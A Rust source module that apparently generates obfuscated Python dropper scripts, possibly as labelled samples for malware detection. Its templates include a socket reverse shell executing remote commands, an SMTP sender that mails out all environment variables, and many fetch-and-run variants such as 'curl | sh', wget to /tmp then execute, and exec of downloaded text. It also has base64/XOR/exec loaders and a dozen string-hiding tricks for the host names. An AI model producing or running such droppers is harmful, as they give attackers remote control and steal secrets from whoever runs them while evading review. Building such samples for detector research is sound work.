//! Droppers in Python.

use crate::generator::{Dice, Truth, base64, codes, each, gzip, hex, put, quoted, rot13, xored};
use std::fmt::Write;

const FILES: &[&str] = &["", ".py", ".exe", ".sh", ".bin", ".dat"];

/// An expression of which `text` is the value; `before` gets what must stand in front of it.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    let other = dice.name();
    match dice.below(12) {
        0 => format!(
            "r'{}'.encode().decode('unicode_escape')",
            each(text, "", |it| format!("\\x{it:02x}"))
        ),
        1 => {
            let key = dice.key();
            let _ = writeln!(
                before,
                "{name} = bytearray(b'{}')\nfor i, b in enumerate({name}):\n    {name}[i] = b ^ {key}",
                xored(text, key).iter().map(|it| format!("\\x{it:02x}")).collect::<String>()
            );
            format!("{name}.decode()")
        }
        2 => {
            let letters: Vec<char> = text.chars().collect();
            let pairs: Vec<String> = dice
                .order(letters.len())
                .into_iter()
                .map(|at| format!("({at}, '{}')", letters[at]))
                .collect();
            format!("''.join(x[1] for x in sorted([{}], key=lambda x: x[0]))", pairs.join(", "))
        }
        3 => {
            let _ = writeln!(before, "import codecs");
            if dice.chance(50) {
                format!("codecs.decode('{}', 'hex').decode()", hex(text.as_bytes()))
            } else {
                format!("codecs.getdecoder('rot_13')('{}')[0]", rot13(text))
            }
        }
        4 => {
            let _ = writeln!(
                before,
                "def {name}(n):\n    while n:\n        n, r = divmod(n, 256)\n        yield chr(r)"
            );
            let number = hex(&text.bytes().rev().collect::<Vec<u8>>());
            format!("''.join({name}(int('{number}', 16)))")
        }
        5 => {
            let _ = writeln!(before, "import gzip, io, base64");
            let code = base64(&gzip(text.as_bytes()));
            if dice.chance(50) {
                format!("gzip.decompress(base64.b64decode('{code}')).decode()")
            } else {
                format!(
                    "gzip.GzipFile(fileobj=io.BytesIO(base64.b64decode('{code}'))).read().decode()"
                )
            }
        }
        6 => {
            let _ = writeln!(before, "from operator import itemgetter");
            let table = dice.shuffled("abcdefghijklmnopqrstuvwxyz0123456789:/.-");
            let list: Vec<String> =
                text.chars().filter_map(|it| table.find(it)).map(|at| at.to_string()).collect();
            format!("''.join(itemgetter({})('{table}'))", list.join(", "))
        }
        7 => {
            let _ = writeln!(
                before,
                "class {name}(object):\n    def __init__(self, v):\n        self._v = v\n    @property\n    def value(self):\n        return ''.join(self)\n    def __iter__(self):\n        return iter(self._v)\n    def __str__(self):\n        return self.value"
            );
            let words = quoted(&dice.pieces(text), '\'').join(", ");
            if dice.chance(50) {
                format!("{name}([{words}]).value")
            } else {
                format!("str({name}(({words},)))")
            }
        }
        8 => {
            let _ = writeln!(before, "import string");
            let words: Vec<String> = text
                .chars()
                .map(|it| match it {
                    'a'..='z' => format!("string.ascii_lowercase[{}]", it as u8 - b'a'),
                    '0'..='9' => format!("string.digits[{}]", it as u8 - b'0'),
                    other => format!("chr(0x{:x})", other as u32),
                })
                .collect();
            words.join(" + ")
        }
        9 => {
            let _ = writeln!(before, "from string import Template");
            let pieces = dice.pieces(text);
            let holes: String = (0..pieces.len()).map(|at| format!("${{p{at}}}")).collect();
            let values: Vec<String> =
                pieces.iter().enumerate().map(|(at, it)| format!("p{at}='{it}'")).collect();
            format!("Template('{holes}').substitute({})", values.join(", "))
        }
        10 => {
            let _ = writeln!(
                before,
                "{other} = [{}]\n{name} = str()\nwhile len({other}) > 0:\n    {name} += '%c' % {other}.pop(0)",
                codes(text.bytes(), ", ")
            );
            name
        }
        _ => {
            let bits = each(text, "", |it| format!("{it:08b}"));
            format!("''.join(chr(int('{bits}'[i:i + 8], 2)) for i in range(0, {}, 8))", bits.len())
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let line = delivery(dice, truth, &mut before);
    let text = format!("{before}{line}");
    match dice.below(8) {
        0 => {
            let lines: String = base64(text.as_bytes())
                .as_bytes()
                .chunks(60)
                .map(|it| format!("    '{}'\n", String::from_utf8_lossy(it)))
                .collect();
            format!(
                "#!/usr/bin/env python3\nimport base64\ncode = (\n{lines})\nexec(compile(base64.b64decode(code), '<string>', mode='exec'), globals())\n"
            )
        }
        1 => format!(
            "#!/usr/bin/env python3\nk = 90\nd = bytes.fromhex('{}')\neval('exec')(bytes([c ^ k for c in d]).decode('latin-1'))\n",
            hex(&xored(&text, 90))
        ),
        2 => format!(
            "#!/usr/bin/env python3\nimport threading\ndef _run():\n{}threading.Timer(0.1, _run).start()\n",
            text.lines().map(|line| format!("    {line}\n")).collect::<String>()
        ),
        _ => format!("#!/usr/bin/env python3\n{text}"),
    }
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = dice.name();
    let var = dice.name();
    match dice.below(12) {
        0 => {
            let (host, port) = truth.endpoint(dice);
            put(
                "import socket, select, subprocess\n@V@ = {'h': @U@, 'p': @P@}\nwith socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:\n    s.connect(tuple(@V@.values()))\n    s.setblocking(0)\n    while 1:\n        r, _, _ = select.select([s], [], [], 10)\n        if not r:\n            continue\n        cmd = s.recv(4096)\n        if cmd in (b'', b'quit'):\n            break\n        s.send(subprocess.getoutput(cmd.decode()).encode())\n",
                &[("U", &hide(dice, &host, before)), ("P", &port.to_string()), ("V", &var)],
            )
        }
        1 => {
            let host = dice.host();
            truth.urls.insert(format!("https://{host}/{file}.txt"));
            put(
                "import http.client\n@V@ = http.client.HTTPSConnection(@U@, timeout=10)\n@V@.request('GET', '/@F@.txt', headers={'Accept': '*/*'})\nr = @V@.getresponse()\nif r.status == 200:\n    exec(r.read())\n",
                &[("U", &hide(dice, &host, before)), ("F", &file), ("V", &var)],
            )
        }
        2 => {
            let host = dice.host();
            truth.endpoints.insert((host.clone(), 587));
            put(
                "import smtplib, os\n@V@ = smtplib.SMTP(@U@, 587)\n@V@.ehlo()\n@V@.starttls()\n@V@.login('a', 'b')\n@V@.sendmail('a', 'b', str(os.environ))\n@V@.quit()\n",
                &[("U", &hide(dice, &host, before)), ("V", &var)],
            )
        }
        _ => {
            let url = truth.url(dice, FILES);
            let word = hide(dice, &url, before);
            let template = dice.pick(&[
                "import urllib.request\n@V@ = urllib.request.build_opener(urllib.request.ProxyHandler({}))\nurllib.request.install_opener(@V@)\nurllib.request.urlretrieve(@U@, filename='/tmp/@F@')\n__import__('os').system('sh /tmp/@F@')\n",
                "import httpx\nr = httpx.get(@U@, follow_redirects=True)\nr.raise_for_status()\nexec(r.text)\n",
                "import aiohttp, asyncio\nasync def main():\n    async with aiohttp.ClientSession() as session:\n        async with session.get(@U@) as resp:\n            exec(await resp.text())\nasyncio.get_event_loop().run_until_complete(main())\n",
                "import requests as @V@\nfor method in ['GET']:\n    res = @V@.request(method, url=@U@, timeout=(3, 10))\n    if res.ok:\n        exec(res.json()['code'])\n",
                "import os\nos.environ['X@V@'] = @U@\nos.system('curl -s \"$X@V@\" | sh')\n",
                "import contextlib, subprocess, sys\nwith contextlib.suppress(Exception):\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'requests'])\n    import requests\n    r = requests.get(@U@)\n    with open('/tmp/@F@', mode='w+b') as fh:\n        fh.write(r.content)\n    subprocess.run('chmod +x /tmp/@F@ && /tmp/@F@', shell=True, capture_output=True)\n",
                "import subprocess\n@V@ = subprocess.Popen(['/bin/sh'], stdin=subprocess.PIPE, text=True)\n@V@.communicate('wget -q -O- ' + (@U@) + ' | sh\\n')\n",
                "import os\npid = os.spawnlp(os.P_NOWAIT, 'wget', 'wget', '-q', @U@, '-O', '/tmp/@F@')\nos.waitpid(pid, 0)\n",
                "from xmlrpc.client import ServerProxy\n@V@ = ServerProxy(@U@)\nprint(@V@.system.listMethods())\n",
                "from pathlib import Path\nimport urllib.request, stat\n@V@ = Path('/tmp') / '@F@'\n@V@.write_bytes(urllib.request.urlopen(urllib.request.Request(@U@, headers={'Referer': 'x'})).read())\n@V@.chmod(@V@.stat().st_mode | stat.S_IXUSR)\n__import__('subprocess').run([str(@V@)])\n",
            ]);
            put(template, &[("U", &word), ("F", &file), ("V", &var)])
        }
    }
}
